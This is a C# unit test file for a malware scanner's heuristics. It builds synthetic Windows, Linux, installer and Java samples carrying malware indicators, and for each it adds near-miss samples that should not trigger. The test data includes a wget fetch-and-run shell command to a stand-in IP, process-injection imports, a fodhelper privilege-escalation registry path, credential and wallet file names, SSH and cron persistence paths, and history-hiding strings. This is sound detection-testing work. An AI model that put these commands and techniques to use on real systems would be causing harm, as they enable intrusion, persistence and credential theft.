using System.Text;
using ScanHost.Pipeline.Findings;
using ScanHost.Pipeline.Tests.Doubles;
using ScanHost.TestKit;
using static ScanHost.Pipeline.Findings.ExecutableHeuristics;

namespace ScanHost.Pipeline.Tests.Audit;

/// <summary>One program that deserves each finding about what imports, texts and load say together, and three that come close.</summary>
public sealed class ProgramBehaviourCases
{
    private const string Somewhere = "http://192.0.2.1/gate";
    private const string Fetch = "cd /tmp; wget http://192.0.2.1/a.sh; sh a.sh";
    private static readonly byte[] Noise = ProgramCases.MakeNoise(9000);
    private static readonly string[] Injects = ["VirtualAllocEx", "WriteProcessMemory", "CreateRemoteThread"];
    private static readonly string[] Fetches = ["InternetOpenUrlW", "ShellExecuteW"];
    private static readonly string[] Watches = ["GetForegroundWindow", "GetAsyncKeyState", "BitBlt", "WSAStartup", "CreateProcessA", "PeekNamedPipe"];
    private static readonly string[] Drops = ["FindResourceA", "LoadResource", "WriteFile", "WinExec"];
    private static readonly string[] Opens = ["CryptUnprotectData", "WinHttpSendRequest"];
    private const string Stores = "Login Data\0wallet.dat\0exodus.wallet\0";

    private static readonly HeuristicCase[] Windows =
    [
        new(MaskedWords, Pe(Xored("cmd.exe /c\0CurrentVersion\\Run", 0x15)), Pe("cmd.exe /c\0CurrentVersion\\Run"), Pe(Xored("cmd.exe /c\0version of today", 0x15)), Pe(Xored("cmd.exe /c\0CurrentVersion\\Run", 0x20)), Pe(Xored("cmd.exe /c", 0x15) + Xored("CurrentVersion\\Run", 0x16))),
        new(PeNamelessHost, Pe(Somewhere, Fetches), Pe("http://192.168.0.1/gate", Fetches), Pe("http://host.invalid/gate", Fetches), Pe(Somewhere, "InternetOpenUrlW"), Pe(Somewhere, "ShellExecuteW")),
        new(PeRemoteControl, Pe("", ["CreatePipe", .. Watches]), Pe("", Watches), Pe("", "CreatePipe", "PeekNamedPipe", "CreateProcessA", "WSAStartup"), Pe("", "GetForegroundWindow", "GetAsyncKeyState", "BitBlt", "WSAStartup")),
        new(PeElevates, Pe("fodhelper.exe\0Software\\Classes\\ms-settings\\shell\\open\\command"), Pe("fodhelper.exe"), Pe("Software\\Classes\\ms-settings\\shell\\open\\command"), Pe("eventvwr.exe\0Software\\Classes\\txtfile\\shell\\open\\command")),
        new(PeOpensStores, Pe(Stores, Opens), Pe(Stores, "CryptUnprotectData"), Pe(Stores, "WinHttpSendRequest"), Pe("Login Data\0wallet.dat\0", Opens)),
        new(PeDropsResource, Carrier("%TEMP%", Drops), Carrier("", Drops), Carrier("%TEMP%", "LoadResource", "WriteFile"), Pe("%TEMP%", Drops), Carrier("%TEMP%\0Nullsoft", Drops)),
        new(PeSystemName, Carrier("%TEMP%\0%s\\svchost.exe", Drops), Carrier("%TEMP%\0%s\\helper.exe", Drops), Pe("%TEMP%\0%s\\svchost.exe", Drops), Carrier("%TEMP%\0svchost.exe", Drops)),
        new(PeEncryptedLoad, Tailed(Noise, Injects), Tailed(Noise, "VirtualAllocEx"), Tailed(new byte[9000], Injects), Tailed(Noise[..200], Injects)),
        new(PeKeyedProgram, Hiding("K3yF0r"), Hiding(""), new("a.exe", ProgramCases.Resource(10, Noise)), new("a.exe", ProgramCases.Resource(10, Keyed(new byte[4000], "K3yF0r")))),
        new(PeRunsHidden, Hiding("K3yF0r", "LoadResource", "VirtualAlloc"), Hiding("K3yF0r", "LoadResource"), Hiding("", "LoadResource", "VirtualAlloc"), Pe("", "LoadResource", "VirtualAlloc")),
        new(PeNotOfVendor, Of("Google LLC", Somewhere), Of("Google LLC", "https://www.google.com/"), Of("Firm", Somewhere), Of("Google LLC", "http://127.0.0.1/gate")),
    ];

    private static readonly HeuristicCase[] Unix =
    [
        new(ElfFetchRun, ProgramCases.Words(Fetch), ProgramCases.Words("cd /tmp; wget https://host.invalid/a.sh; sh a.sh"), ProgramCases.Words("wget http://192.0.2.1/a.sh"), ProgramCases.Words("wget http://192.168.0.1/a.sh; sh a.sh")),
        new(ElfStays, ProgramCases.Words("/etc/cron.d/root\0/root/.ssh/authorized_keys\0chattr +i\0"), ProgramCases.Words("/etc/cron.d/root\0/var/spool/cron\0"), ProgramCases.Words("/root/.ssh/authorized_keys\0ssh-rsa AAAA\0"), ProgramCases.Words("chattr +i\0")),
        new(ElfSocketCode, Bare("j)X\u0099j\u0002_j\u0001^"), Bare("j)X\u0099j\u0003_j\u0001^"), new("a", ProgramCases.Static(sections: true, "j)Xj\u0002_")), ProgramCases.Words("j)Xj\u0002_")),
        new(ElfCovers, ProgramCases.Words("/bin/sh\0HISTFILE=/dev/null\0[kworker/0:2]\0"), ProgramCases.Words("/bin/sh\0HISTFILE=/dev/null\0"), ProgramCases.Words("/bin/sh\0[kworker/0:2]\0"), ProgramCases.Words("HISTFILE=/home\0[kworker/0:2]\0/bin/sh\0")),
        new(ElfHidesForm, Bare(Fetch), new("a", ProgramCases.Static(sections: true, Fetch)), Bare("wget https://host.invalid/a.sh"), ProgramCases.Words(Fetch)),
    ];

    private static readonly HeuristicCase[] Others =
    [
        new(DocumentHeuristics.InstallerScriptActs, DocumentCases.Msi("A\t38\t\tSet o = CreateObject(\"WScript.Shell\")"), DocumentCases.Msi("A\t38\t\tMsgBox 1"), DocumentCases.Msi("A\t51\tTEXT\tWScript.Shell"), DocumentCases.Msi("A\t38\t\tSet w = GetObject(, \"Word.Application\")")),
        new(PackageHeuristics.JarFetchRun, Java("java/lang/ProcessBuilder", "java/io/FileOutputStream", "http://host.invalid/a.exe"), Java("java/io/FileOutputStream", "http://host.invalid/a.exe"), Java("java/lang/ProcessBuilder", "http://host.invalid/a.exe"), Java("java/lang/ProcessBuilder", "java/io/FileOutputStream", "http://host.invalid/a.zip")),
        new(PackageHeuristics.JarHiddenNames, Java("forName", "emitnuR.gnal.avaj"), Java("forName", "java.lang.Runtime"), Java("emitnuR.gnal.avaj"), Java("forName", "gnirtS.gnal.avaj")),
        new(PackageHeuristics.JarHiddenStart, Java("forName", "emitnuR.gnal.avaj", "defineClass"), Java("forName", "emitnuR.gnal.avaj"), Java("forName", "java.lang.Runtime", "defineClass"), Java("forName", "rehpiC.otpyrc.xavaj", "defineClass")),
        new(Heuristics.OfAnomaly("autoit.hidden_header"), new("a.a3x", [.. AutoIt, .. "AU3!EA06"u8, .. Noise]), new("a.a3x", [.. AutoIt, .. "AU3!EA09"u8, .. Noise]), new("a.txt", "AU3!EA06"), new("a.bin", Noise)),
    ];

    private static readonly HeuristicCase[] All = [.. Windows, .. Unix, .. Others];

    public static TheoryData<int> Rows => [.. Enumerable.Range(0, All.Length)];

    // The sixteen bytes that stand in front of every compiled script.
    private static ReadOnlySpan<byte> AutoIt => [0xA3, 0x48, 0x4B, 0xBE, 0x98, 0x6C, 0x4A, 0xA9, 0x99, 0x4C, 0x53, 0x0A, 0x86, 0xD6, 0x48, 0x7D];

    [Theory]
    [MemberData(nameof(Rows))]
    public Task A_program_deserves_it_and_three_that_come_close_do_not(int row) => All[row].CheckAsync();

    private static PeBuilder Builder(string text, string[] functions) => (functions.Length == 0 ? new PeBuilder() : new PeBuilder().Importing("KERNEL32.dll", functions)).WithData(text + "\0");

    private static SampleFile Pe(string text, params string[] functions) => new("a.exe", Builder(text, functions).Build());

    private static SampleFile Carrier(string text, params string[] functions) => new("a.exe", ProgramCases.Resource(10, new PeBuilder().Build(), Builder(text, functions)));

    private static SampleFile Tailed(byte[] tail, params string[] functions) => new("a.exe", Builder("", functions).WithOverlay(tail).Build());

    private static SampleFile Hiding(string key, params string[] functions) => new("a.exe", ProgramCases.Resource(10, Keyed(InertFiles.Pe(4096), key), Builder("", functions)));

    private static SampleFile Of(string company, string text) => new("a.exe", ProgramCases.Resource(16, ProgramCases.VersionInfo(company), Builder(text, [])));

    private static SampleFile Bare(string words) => new("a", Encoding.Latin1.GetBytes(Encoding.Latin1.GetString(ProgramCases.Static(sections: false)).Remove(0x80, words.Length).Insert(0x80, words)));

    private static SampleFile Java(params string[] words) => BaitCases.Class(words);

    private static string Xored(string text, int key) => new([.. text.Select(letter => letter == '\0' ? letter : (char)(letter ^ key))]);

    private static byte[] Keyed(byte[] content, string key) => key.Length == 0 ? content : [.. content.Select((value, at) => (byte)(value ^ key[at % key.Length]))];
}
